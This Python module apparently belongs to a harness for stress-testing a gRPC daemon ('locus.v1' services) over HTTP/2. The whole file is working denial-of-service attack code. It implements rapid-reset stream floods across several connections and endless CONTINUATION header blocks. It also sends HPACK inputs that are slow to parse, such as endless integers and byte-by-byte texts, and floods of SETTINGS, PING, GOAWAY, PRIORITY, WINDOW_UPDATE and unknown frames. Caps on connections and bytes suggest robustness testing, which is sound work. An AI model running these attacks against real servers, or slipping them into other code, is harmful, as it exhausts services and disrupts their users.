"""Attacks by HTTP/2 frames: resets, endless headers, HPACK, and floods of frames that cost the client little."""
import functools
import struct
import time

import protobuf
import wire
from job import Attack

QUERY, LIST = "/locus.v1.QueryService/Query", "/locus.v1.SceneService/ListScenes"
STREAM_UPDATES = "/locus.v1.UpdateService/StreamUpdates"
RESETS_AT_ONCE = 200
RESET_CONNECTIONS = 4
MAX_RESETS = 1_000_000
MAX_CONNECTIONS = 400
FLOOD_BYTES = 217 << 20
CANCEL = 8
PIECE = wire.PIECE


def until_over(job, attack_once):
    """Runs the attack on one connection after another until the time is over. If the daemon closes a connection, a new
    one is opened. At most MAX_CONNECTIONS connections are opened.
    """
    for _ in range(MAX_CONNECTIONS):
        if job.over():
            break
        until = time.monotonic() + job.seconds / MAX_CONNECTIONS
        try:
            with job.connect() as connection:
                attack_once(connection)
        except (wire.Closed, ConnectionResetError, BrokenPipeError, TimeoutError):
            job.count("CLOSED")
        time.sleep(max(0.0, until - time.monotonic()))


def indexed_call(connection, path, body):
    """Makes a call that adds its header fields to the dynamic table of HPACK. Returns the header block with which later
    calls repeat these fields.
    """
    fields = wire.grpc_fields(path)
    stream, connection.next_id = connection.next_id, connection.next_id + 2
    connection.stream_windows[stream] = connection.initial_window
    block = wire.header_block(fields, 0x40)
    connection.send(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block))
    connection.write(stream, wire.message(body))
    connection.finish(stream)
    return wire.indexed_block(len(fields))


def reset_streams(job, path, body, end):
    """Opens streams on several connections and ends each stream with the frame `end` right after its request. The
    stream id in `end` is a placeholder, 0.
    """
    data, total = wire.frame(wire.DATA, wire.END_STREAM, 0, wire.message(body)), [0]
    cost = RESETS_AT_ONCE * (len(body) + 5)

    def send_block(connection, template, offsets):
        connection.send(wire.on_streams(template, offsets, connection.next_id, RESETS_AT_ONCE))
        connection.next_id += 2 * RESETS_AT_ONCE
        connection.send_window -= cost
        total[0] += RESETS_AT_ONCE
        for kept in (connection.ended, connection.headers, connection.bodies):
            kept.clear()

    def once(first):
        connections = [first] + [job.connect() for _ in range(RESET_CONNECTIONS - 1)]
        try:
            block = [indexed_call(connection, path, body) for connection in connections][0]
            head = wire.frame(wire.HEADERS, wire.END_HEADERS, 0, block)
            offsets = (5, len(head) + 5, len(head) + len(data) + 5)
            while not job.over() and total[0] < MAX_RESETS:
                ready = [connection for connection in connections if connection.send_window >= cost]
                for connection in ready:
                    send_block(connection, head + data + end, offsets)
                for connection in connections:
                    connection.step(min(job.until, time.monotonic() + (0 if ready else 0.01)))
        finally:
            for connection in connections[1:]:
                connection.close()
    until_over(job, once)
    job.count("RESETS", total[0])


def reset_row(name, path, bodies, frame, what):
    def steps(job):
        return [(text, functools.partial(reset_streams, path=path, body=body, end=frame)) for text, body in bodies.items()]
    return Attack(name, "resets", steps, what, f"{RESET_CONNECTIONS} connections, {MAX_RESETS:,} streams a step")


RESET = wire.frame(wire.RST_STREAM, 0, 0, struct.pack(">I", CANCEL))
NO_WINDOW = wire.frame(wire.WINDOW_UPDATE, 0, 0, bytes(4))
TABLES = b"".join(wire.frame(wire.SETTINGS, 0, 0, wire.setting(wire.HEADER_TABLE_SIZE, size)) for size in (0, 4096))
ASKS = {"4 rays": protobuf.query(b"world", protobuf.rays(4)), "empty batches": protobuf.query(b"world", b""),
        "large replies": protobuf.query(b"world", protobuf.everything(1, 4_000_000))}


def endless_headers(job, start, filling):
    """Sends a block of headers that never ends: `start`, then `filling` repeatedly in CONTINUATION frames."""
    per_frame = PIECE // len(filling)
    block = wire.frame(wire.CONTINUATION, 0, 1, filling * per_frame) * 16
    sent = [0]

    def once(connection):
        head = wire.header_block(wire.grpc_fields(QUERY)) + start
        connection.send(wire.frame(wire.HEADERS, 0, 1, head))
        sent[0] += connection.flood(lambda: block, job.until, FLOOD_BYTES - sent[0])
        if sent[0] >= FLOOD_BYTES:
            time.sleep(max(0.0, min(job.until - time.monotonic(), 0.5)))
    until_over(job, once)


def headers_byte_by_byte(job, start, filling):
    """Sends a block of headers in CONTINUATION frames of one byte."""
    def once(connection):
        connection.send(wire.frame(wire.HEADERS, 0, 1, wire.header_block(wire.grpc_fields(QUERY)) + start))
        block = b"".join(wire.frame(wire.CONTINUATION, 0, 1, bytes([byte])) for byte in filling) * 1000
        connection.flood(lambda: block, job.until, 64 << 20)
    until_over(job, once)


LARGE_FIELD = wire.literal("x-large", "v" * 3900, 0x40)
CONTINUATIONS = {"small fields": (b"", wire.literal("a", "")), "large fields": (b"", wire.literal("x", "v" * 4000)),
                 "a large field by its index": (LARGE_FIELD, b"\xbe"),
                 "one endless text": (b"\x00\x01x" + wire.hpack_int(1 << 30, 7), b"v")}


def continuation_steps(job):
    return [(name, functools.partial(endless_headers, start=start, filling=filling))
            for name, (start, filling) in CONTINUATIONS.items()]


def hpack_steps(job):
    """Returns steps for integers without an end, changes of the table size, and texts that are sent byte by byte."""
    zeros = b"\x80"
    endless = (("length with endless zeros", b"\x00\x7f", zeros), ("index with endless zeros", b"\xff", zeros),
               ("table size with endless zeros", b"\x3f", zeros))
    bytewise = (("text of 1 MiB byte by byte", b"\x00\x01x" + wire.hpack_int(1 << 20, 7), b"v"),
                ("length byte by byte", b"\x00\x7f", zeros), ("fields byte by byte", b"", wire.literal("a", "")),
                ("coded text byte by byte", b"\x00\x01x" + wire.hpack_int(1 << 20, 7, 0x80), b"\x00"))
    changes = ("changes of the table", b"", b"\x20" + wire.hpack_int(4096, 5, 0x20))
    return [(name, functools.partial(endless_headers, start=start, filling=filling))
            for name, start, filling in (*endless, changes)] + \
        [(name, functools.partial(headers_byte_by_byte, start=start, filling=filling)) for name, start, filling in bytewise]


def flood_frames(job, frames, reading, opens):
    """Sends the same frames repeatedly. With `opens`, a call is open on the connection meanwhile."""
    block = frames * max(1, 65536 // len(frames))

    def once(connection):
        if opens:
            connection.start(STREAM_UPDATES)
        connection.flood(lambda: block, job.until, 4 * FLOOD_BYTES, reading)
    until_over(job, once)


def flood_steps(job, frames, opens):
    return [(name, functools.partial(flood_frames, frames=frames, reading=reading, opens=opens))
            for name, reading in (("replies read", True), ("replies not read", False))]


def flood_row(name, frames, what, opens=False):
    return Attack(name, "floods", functools.partial(flood_steps, frames=frames, opens=opens), what,
                  "868 MiB in each of 2 ways, 400 connections")


ROWS = [
    reset_row("reset-queries", QUERY, ASKS, RESET, "rapid reset of queries"),
    reset_row("reset-lists", LIST, {"": b""}, RESET, "rapid reset of lists of scenes"),
    reset_row("reset-streams", STREAM_UPDATES, {"": protobuf.stream_message(b"world", 1, b"")}, RESET,
              "rapid reset of streams of updates"),
    reset_row("reset-by-daemon", LIST, {"": b""}, NO_WINDOW, "calls that the daemon must reset, for a window update of 0"),
    Attack("continuation", "headers", continuation_steps, "headers that never end", "217 MiB in each of 4 ways"),
    Attack("hpack", "headers", hpack_steps, "headers that are slow to parse: endless integers and texts, byte by byte",
           "217 MiB in each of 8 ways"),
    flood_row("settings", wire.frame(wire.SETTINGS, 0, 0), "empty SETTINGS"),
    flood_row("settings-table", TABLES, "SETTINGS that change the size of the header table"),
    flood_row("ping", wire.frame(wire.PING, 0, 0, bytes(8)), "PING"),
    flood_row("empty-data", wire.frame(wire.DATA, 0, 1), "DATA without a byte", opens=True),
    flood_row("goaway", wire.frame(wire.GOAWAY, 0, 0, bytes(8)), "GOAWAY"),
    flood_row("priority", wire.frame(wire.PRIORITY, 0, 1, bytes(5)), "PRIORITY", opens=True),
    flood_row("window-update", wire.frame(wire.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), "WINDOW_UPDATE of a byte", opens=True),
    flood_row("unknown-frames", wire.frame(0x42, 0, 0), "frames of an unknown kind"),
]
